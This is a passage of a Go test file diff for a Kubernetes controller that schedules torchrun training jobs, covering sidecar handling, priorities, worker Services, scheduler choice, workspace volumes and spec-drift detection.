@@ -1,20 +1,30 @@
 package controller
 
 import (
+	"context"
+	"reflect"
+	"strconv"
+	"strings"
 	"testing"
 
+	batchv1 "k8s.io/api/batch/v1"
 	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/apimachinery/pkg/types"
+	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
 	"sigs.k8s.io/controller-runtime/pkg/client/fake"
 
-	torchrunv1alpha1 "github.com/dream3d/torchrun-controller/internal/v1alpha1"
+	torchrunv1alpha1 "github.com/dream3d/torchrun-controller/api/v1alpha1"
+	"github.com/dream3d/torchrun-controller/internal/config"
 )
 
 func TestTranslateResourceNames(t *testing.T) {
 	// Create a fake client
 	client := fake.NewClientBuilder().Build()
-	jm := NewJobManager(client)
+	jm := NewJobManager(client, true, config.Default())
 
 	// Create test queue with resources
 	jq := &torchrunv1alpha1.TorchrunQueue{
@@ -150,3 +160,1951 @@ func TestTranslateResourceNames(t *testing.T) {
 		}
 	}
 }
+
+func TestAttachSidecarLifecycle(t *testing.T) {
+	newPodSpec := func() *corev1.PodSpec {
+		return &corev1.PodSpec{
+			RestartPolicy:  corev1.RestartPolicyOnFailure,
+			InitContainers: []corev1.Container{{Name: "workspace-sync"}},
+			Containers: []corev1.Container{
+				{Name: "trainer", Command: []string{"/bin/bash", "-c", "torchrun train.py"}},
+				{Name: "metrics-exporter", Command: []string{"exporter"}, Args: []string{"--port", "9400"}},
+			},
+		}
+	}
+
+	t.Run("native sidecars", func(t *testing.T) {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+		podSpec := newPodSpec()
+		if err := jm.attachSidecarLifecycle(context.Background(), podSpec); err != nil {
+			t.Fatalf("attachSidecarLifecycle() error = %v", err)
+		}
+
+		if len(podSpec.Containers) != 1 || podSpec.Containers[0].Name != "trainer" {
+			t.Fatalf("expected only the trainer container, got %v", podSpec.Containers)
+		}
+		if len(podSpec.InitContainers) != 2 || podSpec.InitContainers[1].Name != "metrics-exporter" {
+			t.Fatalf("expected sidecar after the workspace-sync init container, got %v", podSpec.InitContainers)
+		}
+		restartPolicy := podSpec.InitContainers[1].RestartPolicy
+		if restartPolicy == nil || *restartPolicy != corev1.ContainerRestartPolicyAlways {
+			t.Errorf("expected sidecar restartPolicy Always, got %v", restartPolicy)
+		}
+		if podSpec.ShareProcessNamespace != nil {
+			t.Errorf("expected shareProcessNamespace to be unset")
+		}
+		if podSpec.RestartPolicy != corev1.RestartPolicyOnFailure {
+			t.Errorf("expected restartPolicy OnFailure to be kept, got %s", podSpec.RestartPolicy)
+		}
+	})
+
+	t.Run("kill wrapper", func(t *testing.T) {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), false, config.Default())
+		podSpec := newPodSpec()
+		if err := jm.attachSidecarLifecycle(context.Background(), podSpec); err != nil {
+			t.Fatalf("attachSidecarLifecycle() error = %v", err)
+		}
+
+		if len(podSpec.Containers) != 2 {
+			t.Fatalf("expected sidecar to stay a regular container, got %v", podSpec.Containers)
+		}
+		if podSpec.ShareProcessNamespace == nil || !*podSpec.ShareProcessNamespace {
+			t.Errorf("expected shareProcessNamespace to be enabled")
+		}
+		if got := podSpec.Containers[0].Command[2]; got != buildSidecarKillWrapper("torchrun train.py") {
+			t.Errorf("expected trainer command to be wrapped, got %q", got)
+		}
+		expectedCommand := []string{"/bin/sh", "-c", sidecarTermTrap, "metrics-exporter", "exporter"}
+		if got := podSpec.Containers[1].Command; !reflect.DeepEqual(got, expectedCommand) {
+			t.Errorf("expected sidecar command to run under the TERM trap, got %q", got)
+		}
+		if got := podSpec.Containers[1].Args; len(got) != 2 || got[0] != "--port" {
+			t.Errorf("expected sidecar args to be kept, got %q", got)
+		}
+		if podSpec.RestartPolicy != corev1.RestartPolicyNever {
+			t.Errorf("expected restartPolicy Never, got %s", podSpec.RestartPolicy)
+		}
+	})
+
+	t.Run("kill wrapper rejects sidecars without command", func(t *testing.T) {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), false, config.Default())
+		podSpec := newPodSpec()
+		podSpec.Containers[1].Command = nil
+		if err := jm.attachSidecarLifecycle(context.Background(), podSpec); err == nil {
+			t.Errorf("expected an error for a sidecar without command")
+		}
+	})
+
+	t.Run("no sidecars", func(t *testing.T) {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), false, config.Default())
+		podSpec := newPodSpec()
+		podSpec.Containers = podSpec.Containers[:1]
+		if err := jm.attachSidecarLifecycle(context.Background(), podSpec); err != nil {
+			t.Fatalf("attachSidecarLifecycle() error = %v", err)
+		}
+
+		if podSpec.ShareProcessNamespace != nil || podSpec.Containers[0].Command[2] != "torchrun train.py" {
+			t.Errorf("expected pod spec without sidecars to be unchanged")
+		}
+		if podSpec.RestartPolicy != corev1.RestartPolicyOnFailure {
+			t.Errorf("expected restartPolicy OnFailure to be kept, got %s", podSpec.RestartPolicy)
+		}
+	})
+}
+
+func TestCreateJobPriority(t *testing.T) {
+	scheme := runtime.NewScheme()
+	if err := clientgoscheme.AddToScheme(scheme); err != nil {
+		t.Fatalf("failed to build scheme: %v", err)
+	}
+	if err := torchrunv1alpha1.AddToScheme(scheme); err != nil {
+		t.Fatalf("failed to build scheme: %v", err)
+	}
+
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		ObjectMeta: metav1.ObjectMeta{Name: "dev", Namespace: "default"},
+		Spec: torchrunv1alpha1.JobQueueSpec{
+			Queue: torchrunv1alpha1.QueueConfig{Name: "dev"},
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{
+				Spec: runtime.RawExtension{
+					Raw: []byte(`{"priorityClassName":"from-template","containers":[{"name":"trainer","image":"pytorch"}]}`),
+				},
+			},
+			Priorities: torchrunv1alpha1.QueuePriorityConfig{Default: torchrunv1alpha1.PriorityPreemptible},
+		},
+	}
+
+	tests := []struct {
+		description   string
+		priority      string
+		expectedClass string
+	}{
+		{
+			description:   "queue default priority is applied",
+			expectedClass: "train",
+		},
+		{
+			description:   "job priority overrides the queue default",
+			priority:      torchrunv1alpha1.PriorityHigh,
+			expectedClass: "inference",
+		},
+	}
+
+	for _, test := range tests {
+		client := fake.NewClientBuilder().WithScheme(scheme).Build()
+		jm := NewJobManager(client, true, config.Default())
+
+		job := &torchrunv1alpha1.TorchrunJob{
+			TypeMeta:   metav1.TypeMeta{APIVersion: torchrunv1alpha1.GroupVersion.String(), Kind: "TorchrunJob"},
+			ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "default", UID: "train-uid"},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				Queue:    "dev",
+				JobName:  "train",
+				JobID:    "train-id",
+				Command:  "train.py",
+				NumNodes: 1,
+				Priority: test.priority,
+			},
+		}
+		if _, err := jm.CreateJob(context.Background(), job, jq); err != nil {
+			t.Fatalf("%s: CreateJob failed: %v", test.description, err)
+		}
+
+		k8sJob := &batchv1.Job{}
+		if err := client.Get(context.Background(), types.NamespacedName{Name: "train", Namespace: "default"}, k8sJob); err != nil {
+			t.Fatalf("%s: failed to get job: %v", test.description, err)
+		}
+		if got := k8sJob.Spec.Template.Spec.PriorityClassName; got != test.expectedClass {
+			t.Errorf("%s: expected priorityClassName %s, got %s", test.description, test.expectedClass, got)
+		}
+		if got := k8sJob.Spec.Template.Labels["priorityClassName"]; got != test.expectedClass {
+			t.Errorf("%s: expected priorityClassName label %s, got %s", test.description, test.expectedClass, got)
+		}
+	}
+}
+
+func TestCreateJobWorkerService(t *testing.T) {
+	scheme := runtime.NewScheme()
+	if err := clientgoscheme.AddToScheme(scheme); err != nil {
+		t.Fatalf("failed to build scheme: %v", err)
+	}
+	if err := torchrunv1alpha1.AddToScheme(scheme); err != nil {
+		t.Fatalf("failed to build scheme: %v", err)
+	}
+
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		ObjectMeta: metav1.ObjectMeta{Name: "dev", Namespace: "default"},
+		Spec: torchrunv1alpha1.JobQueueSpec{
+			Queue:       torchrunv1alpha1.QueueConfig{Name: "dev"},
+			Distributed: torchrunv1alpha1.DistributedConfig{RdzvBackend: "static", Port: 29500},
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{
+				Spec: runtime.RawExtension{Raw: []byte(`{"containers":[{"name":"trainer","image":"pytorch"}]}`)},
+			},
+		},
+	}
+
+	tests := []struct {
+		description   string
+		numNodes      int
+		env           []corev1.EnvVar
+		expectService bool
+		expectAddr    string
+	}{
+		{
+			description: "single node jobs have no worker Service",
+			numNodes:    1,
+		},
+		{
+			description:   "multi-node workers find the rank 0 worker",
+			numNodes:      2,
+			expectService: true,
+			expectAddr:    "train-0.train-workers.default.svc",
+		},
+		{
+			description:   "job env overrides the master address",
+			numNodes:      2,
+			env:           []corev1.EnvVar{{Name: "MASTER_ADDR", Value: "10.0.0.1"}},
+			expectService: true,
+			expectAddr:    "10.0.0.1",
+		},
+	}
+
+	for _, test := range tests {
+		client := fake.NewClientBuilder().WithScheme(scheme).Build()
+		jm := NewJobManager(client, true, config.Default())
+
+		job := &torchrunv1alpha1.TorchrunJob{
+			TypeMeta:   metav1.TypeMeta{APIVersion: torchrunv1alpha1.GroupVersion.String(), Kind: "TorchrunJob"},
+			ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "default", UID: "train-uid"},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				Queue:    "dev",
+				JobName:  "train",
+				JobID:    "train-id",
+				Command:  "train.py",
+				NumNodes: test.numNodes,
+				Env:      test.env,
+			},
+		}
+		if _, err := jm.CreateJob(context.Background(), job, jq); err != nil {
+			t.Fatalf("%s: CreateJob failed: %v", test.description, err)
+		}
+
+		service := &corev1.Service{}
+		err := client.Get(context.Background(), types.NamespacedName{Name: "train-workers", Namespace: "default"}, service)
+		if !test.expectService {
+			if !apierrors.IsNotFound(err) {
+				t.Errorf("%s: expected no worker Service, got %v", test.description, err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Fatalf("%s: expected worker Service: %v", test.description, err)
+		}
+		if service.Spec.ClusterIP != corev1.ClusterIPNone || !service.Spec.PublishNotReadyAddresses || service.Spec.Selector["torchrun.ai/job-id"] != "train-id" {
+			t.Errorf("%s: expected headless Service of the job pods, got %+v", test.description, service.Spec)
+		}
+
+		k8sJob := &batchv1.Job{}
+		if err := client.Get(context.Background(), types.NamespacedName{Name: "train", Namespace: "default"}, k8sJob); err != nil {
+			t.Fatalf("%s: failed to get job: %v", test.description, err)
+		}
+		podSpec := k8sJob.Spec.Template.Spec
+		if podSpec.Subdomain != "train-workers" {
+			t.Errorf("%s: expected subdomain train-workers, got %q", test.description, podSpec.Subdomain)
+		}
+		// The last value of a duplicated variable wins
+		env := map[string]string{}
+		for _, e := range podSpec.Containers[0].Env {
+			env[e.Name] = e.Value
+		}
+		if env["MASTER_ADDR"] != test.expectAddr || env["MASTER_PORT"] != "29500" {
+			t.Errorf("%s: expected MASTER_ADDR %s and MASTER_PORT 29500, got %q and %q", test.description, test.expectAddr, env["MASTER_ADDR"], env["MASTER_PORT"])
+		}
+		if env["WORLD_SIZE"] != strconv.Itoa(test.numNodes) {
+			t.Errorf("%s: expected WORLD_SIZE %d, got %q", test.description, test.numNodes, env["WORLD_SIZE"])
+		}
+		for _, e := range podSpec.Containers[0].Env {
+			if (e.Name == "NODE_RANK" || e.Name == "RANK") && (e.ValueFrom == nil || e.ValueFrom.FieldRef == nil ||
+				e.ValueFrom.FieldRef.FieldPath != "metadata.annotations['batch.kubernetes.io/job-completion-index']") {
+				t.Errorf("%s: expected %s from the completion index, got %+v", test.description, e.Name, e)
+			}
+		}
+		if command := podSpec.Containers[0].Command[2]; !strings.Contains(command, "--rdzv-endpoint 'train-0.train-workers.default.svc:29500' ") {
+			t.Errorf("%s: expected static rendezvous on the rank 0 worker, got %q", test.description, command)
+		}
+	}
+}
+
+func TestGetSchedulerName(t *testing.T) {
+	tests := []struct {
+		description    string
+		queueScheduler string
+		jobScheduler   string
+		expected       string
+	}{
+		{
+			description: "queue without scheduler uses kai-scheduler",
+			expected:    "kai-scheduler",
+		},
+		{
+			description:    "queue scheduler is used",
+			queueScheduler: "volcano",
+			expected:       "volcano",
+		},
+		{
+			description:    "job scheduler overrides the queue scheduler",
+			queueScheduler: "volcano",
+			jobScheduler:   "default-scheduler",
+			expected:       "default-scheduler",
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{Spec: torchrunv1alpha1.TorchrunJobSpec{SchedulerName: test.jobScheduler}}
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{SchedulerName: test.queueScheduler}}
+		if got := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default()).getSchedulerName(job, jq); got != test.expected {
+			t.Errorf("%s: expected scheduler %s, got %s", test.description, test.expected, got)
+		}
+	}
+
+	// The operator config replaces kai-scheduler for queues without a scheduler
+	operatorConfig := config.Default()
+	operatorConfig.SchedulerName = "volcano"
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, operatorConfig)
+	if got := jm.getSchedulerName(&torchrunv1alpha1.TorchrunJob{}, &torchrunv1alpha1.TorchrunQueue{}); got != "volcano" {
+		t.Errorf("expected the scheduler of the operator config, got %s", got)
+	}
+}
+
+func TestAttachWorkspaceInitContainer(t *testing.T) {
+	tests := []struct {
+		description  string
+		queue        *torchrunv1alpha1.WorkspaceInitContainerConfig
+		job          *torchrunv1alpha1.WorkspaceInitContainerConfig
+		expectImage  string
+		expectPolicy corev1.PullPolicy
+		expectEnv    map[string]string
+	}{
+		{
+			description:  "defaults without config",
+			expectImage:  "alpine:3.18",
+			expectPolicy: corev1.PullIfNotPresent,
+			expectEnv:    map[string]string{"WORKSPACE_SYNC_POLL_INTERVAL": "5", "WORKSPACE_SYNC_TIMEOUT": "1800"},
+		},
+		{
+			description: "queue config replaces defaults",
+			queue: &torchrunv1alpha1.WorkspaceInitContainerConfig{
+				Image:               "registry.example.com/busybox:1.36",
+				ImagePullPolicy:     corev1.PullAlways,
+				PollIntervalSeconds: 2,
+				TimeoutSeconds:      600,
+			},
+			expectImage:  "registry.example.com/busybox:1.36",
+			expectPolicy: corev1.PullAlways,
+			expectEnv:    map[string]string{"WORKSPACE_SYNC_POLL_INTERVAL": "2", "WORKSPACE_SYNC_TIMEOUT": "600"},
+		},
+		{
+			description: "job overrides the queue field by field",
+			queue: &torchrunv1alpha1.WorkspaceInitContainerConfig{
+				Image:               "registry.example.com/busybox:1.36",
+				PollIntervalSeconds: 2,
+			},
+			job:          &torchrunv1alpha1.WorkspaceInitContainerConfig{TimeoutSeconds: 7200, PollIntervalSeconds: 30},
+			expectImage:  "registry.example.com/busybox:1.36",
+			expectPolicy: corev1.PullIfNotPresent,
+			expectEnv:    map[string]string{"WORKSPACE_SYNC_POLL_INTERVAL": "30", "WORKSPACE_SYNC_TIMEOUT": "7200"},
+		},
+	}
+
+	for _, test := range tests {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+		jq := &torchrunv1alpha1.TorchrunQueue{
+			Spec: torchrunv1alpha1.JobQueueSpec{
+				WorkspaceStorage: torchrunv1alpha1.WorkspaceStorageConfig{MountPath: "/app", InitContainer: test.queue},
+			},
+		}
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Name: "train"},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				WorkspaceStorage: torchrunv1alpha1.WorkspaceStorageConfig{InitContainer: test.job},
+			},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+		if err := jm.attachWorkspaceToTrainer(job, jq, podSpec); err != nil {
+			t.Fatalf("%s: attachWorkspaceToTrainer() error = %v", test.description, err)
+		}
+
+		if len(podSpec.InitContainers) != 1 {
+			t.Fatalf("%s: expected one init container, got %v", test.description, podSpec.InitContainers)
+		}
+		init := podSpec.InitContainers[0]
+		if init.Image != test.expectImage || init.ImagePullPolicy != test.expectPolicy {
+			t.Errorf("%s: expected image %s with policy %s, got %s with %s",
+				test.description, test.expectImage, test.expectPolicy, init.Image, init.ImagePullPolicy)
+		}
+		env := map[string]string{}
+		for _, e := range init.Env {
+			env[e.Name] = e.Value
+		}
+		for name, value := range test.expectEnv {
+			if env[name] != value {
+				t.Errorf("%s: expected %s=%s, got %q", test.description, name, value, env[name])
+			}
+		}
+		if env["WORKSPACE_MOUNT_PATH"] != "/app" {
+			t.Errorf("%s: expected mount path /app, got %q", test.description, env["WORKSPACE_MOUNT_PATH"])
+		}
+	}
+}
+
+func TestAttachEphemeralWorkspace(t *testing.T) {
+	tests := []struct {
+		description  string
+		storageClass string
+		expectSize   string
+	}{
+		{
+			description: "emptyDir limited to the workspace size",
+			expectSize:  "20Gi",
+		},
+		{
+			description:  "generic ephemeral volume of the storage class",
+			storageClass: "local-nvme",
+			expectSize:   "20Gi",
+		},
+	}
+
+	for _, test := range tests {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+		jq := &torchrunv1alpha1.TorchrunQueue{
+			Spec: torchrunv1alpha1.JobQueueSpec{
+				WorkspaceStorage: torchrunv1alpha1.WorkspaceStorageConfig{MountPath: "/app", Ephemeral: true, Size: "5Gi"},
+			},
+		}
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Name: "train"},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				WorkspaceStorage: torchrunv1alpha1.WorkspaceStorageConfig{StorageClass: test.storageClass, Size: "20Gi"},
+			},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+		if err := jm.attachWorkspaceToTrainer(job, jq, podSpec); err != nil {
+			t.Fatalf("%s: attachWorkspaceToTrainer() error = %v", test.description, err)
+		}
+
+		if len(podSpec.InitContainers) != 0 {
+			t.Errorf("%s: expected no workspace-sync init container, got %v", test.description, podSpec.InitContainers)
+		}
+		if len(podSpec.Volumes) != 1 || podSpec.Volumes[0].Name != "workspace" {
+			t.Fatalf("%s: expected only the workspace volume, got %v", test.description, podSpec.Volumes)
+		}
+		mounts := podSpec.Containers[0].VolumeMounts
+		if len(mounts) != 1 || mounts[0].MountPath != "/app" {
+			t.Errorf("%s: expected the workspace mounted at /app, got %v", test.description, mounts)
+		}
+
+		volume := podSpec.Volumes[0].VolumeSource
+		if test.storageClass == "" {
+			if volume.EmptyDir == nil || volume.EmptyDir.SizeLimit.String() != test.expectSize {
+				t.Errorf("%s: expected an emptyDir of %s, got %+v", test.description, test.expectSize, volume)
+			}
+			continue
+		}
+		if volume.Ephemeral == nil {
+			t.Fatalf("%s: expected a generic ephemeral volume, got %+v", test.description, volume)
+		}
+		claim := volume.Ephemeral.VolumeClaimTemplate.Spec
+		storage := claim.Resources.Requests[corev1.ResourceStorage]
+		if *claim.StorageClassName != test.storageClass || storage.String() != test.expectSize {
+			t.Errorf("%s: expected a %s claim of %s, got %s of %s",
+				test.description, test.storageClass, test.expectSize, *claim.StorageClassName, storage.String())
+		}
+	}
+
+	// An invalid size is an error
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		Spec: torchrunv1alpha1.JobQueueSpec{WorkspaceStorage: torchrunv1alpha1.WorkspaceStorageConfig{Ephemeral: true, Size: "lots"}},
+	}
+	podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+	if err := jm.attachWorkspaceToTrainer(&torchrunv1alpha1.TorchrunJob{}, jq, podSpec); err == nil {
+		t.Errorf("expected an error for an invalid workspace size")
+	}
+}
+
+func TestAttachWorkspaceDelivery(t *testing.T) {
+	tests := []struct {
+		description     string
+		queue           torchrunv1alpha1.WorkspaceStorageConfig
+		job             torchrunv1alpha1.WorkspaceStorageConfig
+		expectMountPath string
+		expectReadOnly  bool
+		expectEphemeral bool
+	}{
+		{
+			description:     "default mount path",
+			expectMountPath: "/app",
+		},
+		{
+			description:     "mount path of the queue",
+			queue:           torchrunv1alpha1.WorkspaceStorageConfig{MountPath: "/workspace"},
+			expectMountPath: "/workspace",
+		},
+		{
+			description:     "job overrides the mount path of the queue",
+			queue:           torchrunv1alpha1.WorkspaceStorageConfig{MountPath: "/workspace"},
+			job:             torchrunv1alpha1.WorkspaceStorageConfig{MountPath: "/src"},
+			expectMountPath: "/src",
+		},
+		{
+			description:     "direct delivery of the queue mounts the PVC",
+			queue:           torchrunv1alpha1.WorkspaceStorageConfig{MountPath: "/workspace", DeliveryMode: torchrunv1alpha1.WorkspaceDeliveryDirect},
+			expectMountPath: "/workspace",
+			expectReadOnly:  true,
+		},
+		{
+			description:     "direct delivery of the job mounts the PVC",
+			job:             torchrunv1alpha1.WorkspaceStorageConfig{DeliveryMode: torchrunv1alpha1.WorkspaceDeliveryDirect},
+			expectMountPath: "/app",
+			expectReadOnly:  true,
+		},
+		{
+			description:     "job copies the workspace of a queue delivering it directly",
+			queue:           torchrunv1alpha1.WorkspaceStorageConfig{DeliveryMode: torchrunv1alpha1.WorkspaceDeliveryDirect},
+			job:             torchrunv1alpha1.WorkspaceStorageConfig{DeliveryMode: torchrunv1alpha1.WorkspaceDeliveryCopy},
+			expectMountPath: "/app",
+		},
+		{
+			description:     "ephemeral workspaces are not delivered",
+			queue:           torchrunv1alpha1.WorkspaceStorageConfig{DeliveryMode: torchrunv1alpha1.WorkspaceDeliveryDirect, Ephemeral: true},
+			expectMountPath: "/app",
+			expectEphemeral: true,
+		},
+	}
+
+	for _, test := range tests {
+		jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{WorkspaceStorage: test.queue}}
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Name: "train"},
+			Spec:       torchrunv1alpha1.TorchrunJobSpec{JobName: "train", WorkspaceStorage: test.job},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+		if err := jm.attachWorkspaceToTrainer(job, jq, podSpec); err != nil {
+			t.Fatalf("%s: attachWorkspaceToTrainer() error = %v", test.description, err)
+		}
+
+		mounts := podSpec.Containers[0].VolumeMounts
+		if len(mounts) != 1 || mounts[0].MountPath != test.expectMountPath || mounts[0].ReadOnly != test.expectReadOnly {
+			t.Errorf("%s: expected the workspace mounted at %s with readOnly %v, got %v",
+				test.description, test.expectMountPath, test.expectReadOnly, mounts)
+		}
+		if test.expectEphemeral {
+			if len(podSpec.InitContainers) != 0 || podSpec.Volumes[0].PersistentVolumeClaim != nil {
+				t.Errorf("%s: expected an ephemeral workspace volume, got %v", test.description, podSpec.Volumes)
+			}
+			continue
+		}
+		if !test.expectReadOnly {
+			if len(podSpec.InitContainers) != 1 {
+				t.Errorf("%s: expected the workspace-sync init container, got %v", test.description, podSpec.InitContainers)
+			}
+			continue
+		}
+		if len(podSpec.InitContainers) != 0 {
+			t.Errorf("%s: expected no workspace-sync init container, got %v", test.description, podSpec.InitContainers)
+		}
+		if len(podSpec.Volumes) != 1 || podSpec.Volumes[0].PersistentVolumeClaim == nil ||
+			podSpec.Volumes[0].PersistentVolumeClaim.ClaimName != GetWorkspacePVCName(job) || !podSpec.Volumes[0].PersistentVolumeClaim.ReadOnly {
+			t.Errorf("%s: expected only the workspace PVC mounted read-only, got %v", test.description, podSpec.Volumes)
+		}
+	}
+}
+
+func TestCreateJobDrift(t *testing.T) {
+	scheme := runtime.NewScheme()
+	if err := clientgoscheme.AddToScheme(scheme); err != nil {
+		t.Fatalf("failed to build scheme: %v", err)
+	}
+	if err := torchrunv1alpha1.AddToScheme(scheme); err != nil {
+		t.Fatalf("failed to build scheme: %v", err)
+	}
+
+	jq := &torchrunv1alpha1.TorchrunQueue{
+		ObjectMeta: metav1.ObjectMeta{Name: "dev", Namespace: "default", Generation: 1},
+		Spec: torchrunv1alpha1.JobQueueSpec{
+			Queue: torchrunv1alpha1.QueueConfig{Name: "dev"},
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{
+				Spec: runtime.RawExtension{Raw: []byte(`{"containers":[{"name":"trainer","image":"pytorch"}]}`)},
+			},
+		},
+	}
+	deadline := int64(3600)
+	running := batchv1.JobStatus{Active: 1, Ready: &[]int32{1}[0]}
+	complete := batchv1.JobStatus{Conditions: []batchv1.JobCondition{{Type: batchv1.JobComplete, Status: corev1.ConditionTrue}}}
+	newImage := func(jq *torchrunv1alpha1.TorchrunQueue) {
+		jq.Generation++
+		jq.Spec.PodTemplateConfig.Spec.Raw = []byte(`{"containers":[{"name":"trainer","image":"pytorch:2.3"}]}`)
+	}
+
+	tests := []struct {
+		description   string
+		status        batchv1.JobStatus
+		legacy        bool
+		update        func(job *torchrunv1alpha1.TorchrunJob)
+		updateQueue   func(jq *torchrunv1alpha1.TorchrunQueue)
+		expectReason  string
+		expectMessage string
+		expectSynced  bool
+		expectDeleted bool
+	}{
+		{
+			description: "unchanged job is up to date",
+			update:      func(job *torchrunv1alpha1.TorchrunJob) {},
+		},
+		{
+			description: "deadline change is patched",
+			status:      running,
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.Reliability.ActiveDeadlineSeconds = &deadline
+			},
+			expectReason: "Patched",
+			expectSynced: true,
+		},
+		{
+			description: "command change recreates a queued job",
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.Command = "train.py --lr 1e-4"
+			},
+			expectReason:  "Recreating",
+			expectDeleted: true,
+		},
+		{
+			description: "command change keeps a running job",
+			status:      running,
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.Command = "train.py --lr 1e-4"
+			},
+			expectReason: "RecreateBlocked",
+		},
+		{
+			description: "recreate policy restarts a running job",
+			status:      running,
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.Command = "train.py --lr 1e-4"
+				job.Spec.UpdatePolicy = torchrunv1alpha1.UpdatePolicyRecreate
+			},
+			expectReason:  "Recreating",
+			expectDeleted: true,
+		},
+		{
+			description: "node count change resizes a queued job",
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.NumNodes = 4
+			},
+			expectReason:  "Resizing",
+			expectDeleted: true,
+		},
+		{
+			description: "node count change keeps a running job",
+			status:      running,
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.NumNodes = 4
+			},
+			expectReason: "RecreateBlocked",
+		},
+		{
+			description: "never policy only reports the change",
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.NumNodes = 2
+				job.Spec.UpdatePolicy = torchrunv1alpha1.UpdatePolicyNever
+			},
+			expectReason: "UpdateSkipped",
+		},
+		{
+			description: "finished job is left alone",
+			status:      complete,
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.Command = "train.py --lr 1e-4"
+			},
+		},
+		{
+			description:   "queue template change recreates a queued job",
+			update:        func(job *torchrunv1alpha1.TorchrunJob) {},
+			updateQueue:   newImage,
+			expectReason:  "Recreating",
+			expectDeleted: true,
+		},
+		{
+			description:   "queue template change marks a running job stale",
+			status:        running,
+			update:        func(job *torchrunv1alpha1.TorchrunJob) {},
+			updateQueue:   newImage,
+			expectReason:  "RecreateBlocked",
+			expectMessage: "Job train does not match the spec of TorchrunQueue dev, which changed since the Job was created, but has running pods",
+		},
+		{
+			description: "queue change that does not affect the job keeps it up to date",
+			status:      running,
+			update:      func(job *torchrunv1alpha1.TorchrunJob) {},
+			updateQueue: func(jq *torchrunv1alpha1.TorchrunQueue) {
+				jq.Generation++
+				jq.Spec.Limits.MaxNodesPerJob = 16
+			},
+		},
+		{
+			description: "job created before drift detection is adopted",
+			legacy:      true,
+			update: func(job *torchrunv1alpha1.TorchrunJob) {
+				job.Spec.Command = "train.py --lr 1e-4"
+			},
+		},
+	}
+
+	for _, test := range tests {
+		c := fake.NewClientBuilder().WithScheme(scheme).Build()
+		jm := NewJobManager(c, true, config.Default())
+		ctx := context.Background()
+		key := types.NamespacedName{Name: "train", Namespace: "default"}
+
+		job := &torchrunv1alpha1.TorchrunJob{
+			TypeMeta:   metav1.TypeMeta{APIVersion: torchrunv1alpha1.GroupVersion.String(), Kind: "TorchrunJob"},
+			ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "default", UID: "train-uid"},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				Queue:    "dev",
+				JobName:  "train",
+				JobID:    "train-id",
+				Command:  "train.py",
+				NumNodes: 1,
+			},
+		}
+		if _, err := jm.CreateJob(ctx, job, jq); err != nil {
+			t.Fatalf("%s: CreateJob failed: %v", test.description, err)
+		}
+		k8sJob := &batchv1.Job{}
+		if err := c.Get(ctx, key, k8sJob); err != nil {
+			t.Fatalf("%s: failed to get job: %v", test.description, err)
+		}
+		if test.legacy {
+			k8sJob.Annotations = nil
+			if err := c.Update(ctx, k8sJob); err != nil {
+				t.Fatalf("%s: failed to update job: %v", test.description, err)
+			}
+		}
+		k8sJob.Status = test.status
+		if err := c.Status().Update(ctx, k8sJob); err != nil {
+			t.Fatalf("%s: failed to update job status: %v", test.description, err)
+		}
+
+		test.update(job)
+		updatedQueue := jq.DeepCopy()
+		if test.updateQueue != nil {
+			test.updateQueue(updatedQueue)
+		}
+		update, err := jm.CreateJob(ctx, job, updatedQueue)
+		if err != nil {
+			t.Fatalf("%s: CreateJob failed: %v", test.description, err)
+		}
+		if test.expectReason == "" && update != nil {
